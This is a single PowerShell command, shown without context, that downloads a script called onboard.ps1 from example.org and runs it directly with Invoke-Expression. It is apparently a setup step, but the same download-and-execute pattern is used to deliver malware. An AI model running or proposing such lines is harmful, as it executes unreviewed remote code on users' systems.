iex ((New-Object System.Net.WebClient).DownloadString('https://example.org/onboard.ps1'))
